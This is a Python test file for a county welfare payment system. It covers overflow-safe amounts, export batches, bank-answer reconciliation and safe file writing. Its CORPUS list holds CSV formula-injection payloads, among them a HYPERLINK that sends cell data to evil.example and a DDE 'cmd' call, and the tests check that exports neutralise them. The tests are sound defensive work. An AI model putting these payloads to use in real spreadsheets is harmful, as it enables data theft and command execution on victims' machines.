"""Money that cannot go wrong: BIGINT amounts, one bad case never stops the run or the tick,
export batches, the bank's answer checked line by line, and files that leave the system
(SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import os
import signal
import stat
import subprocess
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import func, select, update
from sqlalchemy.orm import Session

from aidflow.files.cells import is_formula_like
from aidflow.language.loader import load_workflow_text
from aidflow.services.cases import Service
from aidflow.store import auditlog
from aidflow.store.database import make_engine
from aidflow.store.models import AuditEntry, CaseEvent, Payment, PaymentExport

from .conftest import strip_banner
from .smtp import SMTPServer
from .test_crashes import REPO, aidflow, base_env, kill_at
from .test_payments import TEMPORARY, County, at, cli, county, id_number  # noqa: F401 - county is a fixture


def smtp_env(smtp: SMTPServer) -> dict[str, str | None]:
    return {
        "AIDFLOW_PAYMENT_DAY": "1",
        "AIDFLOW_SMTP_HOST": smtp.host,
        "AIDFLOW_SMTP_PORT": str(smtp.port),
        "AIDFLOW_SMTP_SECURITY": "none",
        "AIDFLOW_SMTP_FROM": "aidflow@county.example",
    }


def test_amounts_beyond_32_bits_are_paid_and_one_beyond_bigint_is_skipped_naming_the_case(
    county: County,  # noqa: F811
    db_url: str,
    smtp_server: SMTPServer,
    tmp_path: Path,
) -> None:
    """The county's run and the tick go on past a case whose amount no row can hold; the
    digest (with a name holding an ID-like number) is still delivered; no SQL is printed.
    The county's dibao ceiling is raised so that the amount is the column's to hold."""
    import shutil

    workflows = tmp_path / "workflows"
    shutil.copytree(REPO / "src" / "aidflow" / "shipped" / "workflows", workflows)
    standards = workflows / "policy" / "standards.yaml"
    standards.write_text(
        standards.read_text(encoding="utf-8").replace(
            '{from: 2023-01-01, value: "6000.00"}', '{from: 2023-01-01, value: "90000000.00"}'
        ),
        encoding="utf-8",
    )

    def supervisor(svc: Service) -> None:
        text = TEMPORARY.replace("temporary_assistance", "supervised").replace(
            "roles:\n", "roles:\n  county_supervisor: {zh: 县督办, en: County supervisor}\n", 1
        )
        svc.deploy("admin", load_workflow_text(text, "supervised.yaml"))
        svc.add_user("admin", "csup", ["county_supervisor"], "*", "csup@county.example")

    county.run(supervisor)
    big = county.case("dibao", at(2023, 8, 1, 10), "approve", amount="30000000.00")
    huge = county.case("dibao", at(2023, 8, 1, 11), "approve", amount="500.00")
    fine = county.case("dibao", at(2023, 8, 1, 12), "approve", amount="650.00")
    # someone with SQL on the database (or a future field type) gives an amount no
    # BIGINT holds; the engine's own checks stop such a value at the CLI
    with Session(county.engine) as s, s.begin():
        s.execute(
            update(CaseEvent)
            .where(CaseEvent.case_id == huge, CaseEvent.trigger == "approve")
            .values(fields={"amount": "1e30"})
        )

    # a person from another department's list whose name holds an ID-like number
    def odd_name(svc: Service) -> None:
        svc.register_person(id_number(50), f"王{id_number(51)}", "城关镇", "东村", "rural")
        svc.open_case(svc.actor("sun"), id_number(50), "dibao")

    county.run(odd_name)
    env = {**smtp_env(smtp_server), "AIDFLOW_WORKFLOWS": str(workflows)}
    result = cli(db_url, "scheduler", "tick", now="2023-09-01T09:00", env=env)
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert (
        "payment run 1 for 2023-09: 2 payment(s) created (0 arrears), 30000650.00 yuan; "
        "dibao 2" in lines
    )
    assert (
        f"skipped: case {huge} dibao 2023-09: amount '1e30' is more than a payment can hold "
        "(92233720368547758.07 yuan)" in lines
    )
    assert "digest: 1 email(s) queued" in lines
    assert "delivery: 1 sent, 0 failed, 0 pending" in lines
    assert "INSERT" not in result.output and "parameters" not in result.output
    (message,) = smtp_server.messages
    body = message.message.get_body(("plain",)).get_content()  # type: ignore[union-attr]
    assert id_number(51) not in body and "王" + id_number(51)[:3] + "*" * 11 in body
    with Session(county.engine) as s:
        got = sorted((p.case_id, p.amount_fen) for p in s.scalars(select(Payment)))
    assert got == [(big, 3_000_000_000), (fine, 65_000)]


# -- export batches -------------------------------------------------------------------------


def references(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [row[0] for row in list(csv.reader(fh))[1:]]


def test_an_export_holds_only_payments_in_no_batch_and_a_batch_again_is_its_own_act(
    county: County,  # noqa: F811
    db_url: str,
    tmp_path: Path,
) -> None:
    county.case("dibao", at(2023, 7, 15, 10), "approve", amount="650.00")
    county.case("tekun", at(2023, 7, 20, 10), "confirm", self_care="full")
    assert cli(db_url, "payments", "run", "--period", "2023-08").exit_code == 0
    first, second, again = tmp_path / "b1.csv", tmp_path / "b2.csv", tmp_path / "b1-again.csv"
    result = cli(db_url, "payments", "export", "--period", "2023-08", "--output", str(first))
    assert (
        result.stdout == f"exported 3 payment(s) for 2023-08, 1770.00 yuan, to {first} (batch 1)\n"
    )
    # a case approved in July but entered after the run: the next run pays its August
    late = county.case("dibao", at(2023, 7, 25, 10), "approve", amount="700.00")
    county.clock.set(at(2023, 8, 3, 9))
    assert cli(db_url, "payments", "run", "--period", "2023-08").exit_code == 0
    result = cli(db_url, "payments", "export", "--period", "2023-08", "--output", str(second))
    assert (
        result.stdout == f"exported 1 payment(s) for 2023-08, 700.00 yuan, to {second} (batch 2)\n"
    )
    assert references(first) == ["1", "2", "3"] and references(second) == ["4"]
    with Session(county.engine) as s:
        assert s.scalar(select(Payment.export_id).where(Payment.case_id == late)) == 2

    result = cli(db_url, "payments", "export", "--period", "2023-08", "--output", str(again))
    assert (result.exit_code, result.stderr) == (
        4,
        "error: no payments for 2023-08 wait to be exported; batch(es) 1, 2 hold the exported "
        "ones\n  hint: to write a batch's file again: aidflow payments export --batch 2\n",
    )
    assert not again.exists()
    result = cli(db_url, "payments", "export", "--period", "2023-08", "--batch", "1")
    assert (result.exit_code, result.stderr) == (
        3,
        "error: give --period (new payments) or --batch (a batch's file again), not both\n"
        "  hint: e.g. aidflow payments export --period 2023-09\n",
    )
    result = cli(db_url, "payments", "export", "--batch", "1", "--output", str(again))
    assert result.stdout == (
        f"exported 3 payment(s) for 2023-08, 1770.00 yuan, to {again} (batch 1 again)\n"
    )
    assert again.read_bytes() == first.read_bytes()
    with Session(county.engine) as s, s.begin():  # someone with SQL moves a payment's money
        s.execute(update(Payment).where(Payment.id == 2).values(amount_fen=1))
    result = cli(db_url, "payments", "export", "--batch", "1", "--output", str(again))
    assert (result.exit_code, result.stderr) == (
        7,
        "error: export batch 1 now holds 3 payment(s), 750.01 yuan, not its control count and "
        "total 3, 1770.00 yuan; no file was written\n"
        "  hint: run `aidflow audit verify` to see what changed\n",
    )
    with Session(county.engine) as s, s.begin():
        s.execute(update(Payment).where(Payment.id == 2).values(amount_fen=102000))
    result = cli(db_url, "payments", "export", "--batch", "9", "--output", str(again))
    assert (result.exit_code, result.stderr) == (
        4,
        "error: no export batch 9\n  hint: see the batch numbers exports print\n",
    )
    with Session(county.engine) as s:
        kinds = list(
            s.scalars(select(AuditEntry.kind).where(AuditEntry.subject_table == "payment_exports"))
        )
        assert kinds == ["payment_export", "payment_export", "payment_reexport"]
        assert auditlog.check(s).findings == []


def test_an_export_paused_mid_write_holds_no_write_lock_and_refuses_what_changed_meanwhile(
    county: County,  # noqa: F811
    db_url: str,
    tmp_path: Path,
) -> None:
    """Driven to the failpoint after its first page is written: a caseworker's write goes
    through at once; a payment changed meanwhile makes the export record nothing."""
    a = county.case("dibao", at(2023, 7, 15, 10), "approve", amount="650.00")
    county.case("dibao", at(2023, 7, 16, 10), "approve", amount="700.00")
    assert cli(db_url, "payments", "run", "--period", "2023-08").exit_code == 0
    out = tmp_path / "bank.csv"
    argv = aidflow(
        db_url,
        "2023-08-02T09:00",
        "payments",
        "export",
        "--period",
        "2023-08",
        "--output",
        str(out),
        user="sun",
    )

    def paused() -> subprocess.Popen[bytes]:
        proc = subprocess.Popen(
            argv,
            env={**base_env(), "AIDFLOW_FAILPOINT": "payments.export_page:1"},
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            cwd=REPO,
        )
        _, status = os.waitpid(proc.pid, os.WUNTRACED)
        assert os.WIFSTOPPED(status)
        return proc

    def resume(proc: subprocess.Popen[bytes]) -> tuple[int, str, str]:
        proc.send_signal(signal.SIGCONT)
        got, err = proc.communicate(timeout=120)
        return proc.returncode, got.decode(), strip_banner(err.decode())

    proc = paused()
    # a writer that would fail at once were the lock held (no waiting for it)
    impatient = make_engine(county.engine.url.render_as_string(False), busy_timeout_ms=0)
    with Session(impatient) as s, s.begin():
        Service(s, county.clock, county.calendar).fire(
            Service(s, county.clock, county.calendar).actor("li"), a, "start_review", {}
        )
    with Session(impatient) as s, s.begin():  # what a person with SQL, or a bug, might do
        s.execute(update(Payment).where(Payment.case_id == a).values(amount_fen=1))
    impatient.dispose()
    code, _, err = resume(proc)
    assert (code, err) == (
        7,
        "error: payment(s) 1 changed or were exported by someone else while the bank file for "
        "2023-08 was written; nothing was recorded\n  hint: export again\n",
    )
    assert not out.exists()
    with Session(county.engine) as s:
        assert set(s.scalars(select(Payment.status))) == {"pending"}
        assert s.scalar(select(func.count()).select_from(PaymentExport)) == 0
    code, got, err = resume(paused())
    assert (code, err) == (0, ""), err
    # (PostgreSQL's sequence does not give back the id the refused export took)
    assert got.startswith(f"exported 2 payment(s) for 2023-08, 700.01 yuan, to {out} (batch ")


# -- the bank's answer ----------------------------------------------------------------------


def test_a_gb18030_answer_with_one_wrong_amount_is_refused_naming_the_line_then_recorded(
    county: County,  # noqa: F811
    db_url: str,
    tmp_path: Path,
) -> None:
    county.case("dibao", at(2023, 7, 15, 10), "approve", amount="650.00")
    county.case("tekun", at(2023, 7, 20, 10), "confirm", self_care="full")
    assert cli(db_url, "payments", "run", "--period", "2023-08").exit_code == 0
    sent = tmp_path / "bank.csv"
    assert (
        cli(db_url, "payments", "export", "--period", "2023-08", "--output", str(sent)).exit_code
        == 0
    )
    with sent.open(encoding="utf-8-sig", newline="") as fh:
        exported = list(csv.reader(fh))[1:]
    assert [r[1] for r in exported] == ["居民1", "居民2", "居民2"]

    def answer(lines: list[list[str]], encoding: str = "gb18030") -> Path:
        path = tmp_path / "answer.csv"
        text = "参考号,reference,status,reason,name,id_number,amount_yuan\r\n" + "".join(
            ",".join(["工行", *line]) + "\r\n" for line in lines
        )
        path.write_bytes(text.encode(encoding))
        return path

    good = [[r[0], "paid", "", r[1], r[2], r[3]] for r in exported]
    wrong = [list(line) for line in good]
    wrong[1][5] = "10200.00"  # the bank paid ten times the amount
    wrong[2][0] = "３"  # a full-width 3
    path = answer(wrong)
    assert b"\xbe\xd3\xc3\xf1" in path.read_bytes()  # 居民 in GB18030 (and GBK)
    result = cli(db_url, "payments", "reconcile", str(path))
    assert (result.exit_code, result.stderr) == (
        3,
        f"error: {path}: 2 problem(s); nothing was recorded:\n"
        f"  {path}:3: payment 2: amount 10200.00 yuan, exported 1020.00 (mismatch)\n"
        f"  {path}:4: reference '３' is not a payment id (a whole number from the export, "
        "in ASCII digits 0-9)\n"
        "  hint: fix the file (or ask the bank for a corrected one) and run reconcile again\n",
    )
    wrong = [list(line) for line in good]
    wrong[0][3], wrong[2][4] = "居民9", id_number(7)  # another payee
    path = answer(wrong)
    result = cli(db_url, "payments", "reconcile", str(path))
    assert result.stderr.splitlines()[1:3] == [
        f"  {path}:2: payment 1: name '居民9', exported '居民1' (mismatch)",
        f"  {path}:4: payment 3: ID number {id_number(7)[:3]}{'*' * 11}{id_number(7)[-4:]}, "
        f"exported {id_number(2)[:3]}{'*' * 11}{id_number(2)[-4:]} (mismatch)",
    ]
    path.write_bytes(path.read_bytes().replace(b"paid", b"p\xffid", 1))  # neither UTF-8 nor GB18030
    result = cli(db_url, "payments", "reconcile", str(path))
    assert (result.exit_code, result.stderr) == (
        3,
        f"error: {path}:2: bytes that are not UTF-8 or GB18030 text (illegal multibyte "
        "sequence); nothing was read\n"
        "  hint: save the file as UTF-8 or GB18030 CSV, or name its encoding (--encoding)\n",
    )
    with Session(county.engine) as s:
        assert set(s.scalars(select(Payment.status))) == {"exported"}  # nothing recorded

    path = answer(good, "gbk")  # the amount corrected; GBK is GB18030's older subset
    result = cli(db_url, "payments", "reconcile", str(path), "--encoding", "gbk")
    assert (result.exit_code, result.stdout) == (
        0,
        f"{path}: 3 paid, 0 failed, 0 already recorded\n",
    )
    with Session(county.engine) as s:
        assert set(s.scalars(select(Payment.status))) == {"paid"}
        assert auditlog.check(s).findings == []


# -- files that leave the system ------------------------------------------------------------

# names from other departments' lists, each of which a spreadsheet program would run
CORPUS = [
    '=HYPERLINK("http://evil.example/?"&C2,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+3",
    "  =1+4",  # registration strips names' outer white space; is_formula_like looks past it
    "\u3000=1+5",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


@pytest.fixture
def hostile_county(county: County, db_url: str) -> tuple[County, str, dict[str, str]]:  # noqa: F811
    """A county whose paid persons carry the corpus as names; name -> ID number."""
    names: dict[str, str] = {}

    def add(svc: Service) -> None:
        for i, name in enumerate(CORPUS, start=60):
            svc.register_person(id_number(i), name, "城关镇", "东村", "rural")
            names[svc.person(id_number(i)).name] = id_number(i)
            case = svc.open_case(svc.actor("sun"), id_number(i), "dibao")
            svc.fire(svc.actor("sun"), case.id, "approve", {"amount": "100.00"})

    county.clock.set(at(2023, 7, 15, 10))
    county.run(add)
    assert cli(db_url, "payments", "run", "--period", "2023-08").exit_code == 0
    return county, db_url, names


def exports(url: str, directory: Path) -> dict[str, Path]:
    """Every export there is, written into `directory`: the bank file (CSV, then the same
    batch as XLSX) and the ledger (CSV, XLSX)."""
    out = {
        "bank.csv": directory / "bank.csv",
        "bank.xlsx": directory / "bank.xlsx",
        "ledger.csv": directory / "ledger.csv",
        "ledger.xlsx": directory / "ledger.xlsx",
    }
    for argv in (
        ["payments", "export", "--period", "2023-08", "--output", str(out["bank.csv"])],
        [
            "payments",
            "export",
            "--batch",
            "1",
            "--format",
            "xlsx",
            "--output",
            str(out["bank.xlsx"]),
        ],
        ["ledger", "export", "--format", "csv", "--output", str(out["ledger.csv"])],
        ["ledger", "export", "--format", "xlsx", "--output", str(out["ledger.xlsx"])],
    ):
        result = cli(url, *argv)
        assert result.exit_code == 0, result.output
    return out


def cells(path: Path) -> list[tuple[str, object, bool]]:
    """(data type, value, quote prefix) of every cell of the file; CSV cells are text."""
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as fh:
            return [("s", c, False) for row in csv.reader(fh) for c in row]
    from openpyxl import load_workbook

    wb = load_workbook(path)
    found = [
        (c.data_type, c.value, bool(c.quotePrefix))
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.value is not None
    ]
    wb.close()
    return found


def test_what_a_spreadsheet_runs_is_recognised_and_written_as_text() -> None:
    from aidflow.files.cells import csv_text

    for text in CORPUS + ["\x00=1", "\n=1", " \t@x", "\u2003-1"]:
        assert is_formula_like(text), text
        assert csv_text(text) == "'" + text
    for text in ["王秀英", "650.00", "110105195001010017", "a=b", "", "O'Brien", "1-2"]:
        assert not is_formula_like(text) and csv_text(text) == text, text
    assert csv_text(Decimal("-1.05")) == "-1.05" and csv_text(-3) == "-3"  # numbers stay numbers


def test_no_export_holds_a_cell_a_spreadsheet_would_run(
    hostile_county: tuple[County, str, dict[str, str]], tmp_path: Path
) -> None:
    _, url, names = hostile_county
    assert len(names) == len(CORPUS)
    for kind, path in exports(url, tmp_path).items():
        found = cells(path)
        assert all(t != "f" for t, _, _ in found), kind  # no formula cell at all
        texts = [v for t, v, _ in found if isinstance(v, str)]
        for name in names:
            if path.suffix == ".csv":  # behind an apostrophe, as OWASP says
                assert "'" + name in texts and name not in texts, (kind, name)
            else:  # an inline string marked "quote prefix"
                assert ("s", name, True) in found or ("inlineStr", name, True) in found, (
                    kind,
                    name,
                    [c for c in found if c[1] == name],
                )
        assert not [v for v in texts if is_formula_like(v) and path.suffix != ".xlsx"], kind


def test_every_export_is_private_and_never_follows_a_planted_symlink(
    hostile_county: tuple[County, str, dict[str, str]], tmp_path: Path
) -> None:
    _, url, _ = hostile_county
    victim = tmp_path / "victim.txt"
    victim.write_text("not yours\n")
    directory = tmp_path / "out"
    directory.mkdir()
    for name in ("bank.csv", "bank.xlsx", "ledger.csv", "ledger.xlsx"):
        (directory / name).symlink_to(victim)
        (directory / f"{name}.part").symlink_to(victim)  # the old predictable temporary name
    written = exports(url, directory)
    assert victim.read_text() == "not yours\n"
    for kind, path in written.items():
        assert not path.is_symlink() and path.is_file(), kind
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, kind
    assert sorted(p.name for p in directory.iterdir()) == sorted(
        [*written, *(f"{n}.part" for n in written)]
    )  # nothing else: no temporary left


def test_an_export_killed_mid_write_leaves_no_file_and_nothing_in_tmp(
    county: County,  # noqa: F811
    db_url: str,
    tmp_path: Path,
) -> None:
    county.case("dibao", at(2023, 7, 15, 10), "approve", amount="650.00")
    assert cli(db_url, "payments", "run", "--period", "2023-08").exit_code == 0
    directory, tmp = tmp_path / "out", tmp_path / "tmp"
    directory.mkdir()
    tmp.mkdir()
    for fmt in ("xlsx", "csv"):
        args = ["payments", "export", "--format", fmt, "--output", str(directory / f"b.{fmt}")]
        args += ["--period", "2023-08"] if fmt == "xlsx" else ["--batch", "1"]
        kill_at(
            aidflow(db_url, "2023-08-02T09:00", *args, user="sun"),
            {**base_env(), "TMPDIR": str(tmp)},
            "files.write:1",
        )
        assert list(directory.iterdir()) == [] and list(tmp.iterdir()) == [], fmt
    # the bank's answer, full of names and ID numbers, copied for the operation
    answer = tmp_path / "answer.csv"
    answer.write_text(
        f"reference,status,reason,amount_yuan,id_number\n1,paid,,650.00,{id_number(1)}\n",
        encoding="utf-8",
    )
    argv = aidflow(db_url, "2023-08-02T09:00", "payments", "reconcile", str(answer), user="sun")
    kill_at(argv, {**base_env(), "TMPDIR": str(tmp)}, "uploads.received:1")
    assert list(tmp.iterdir()) == []
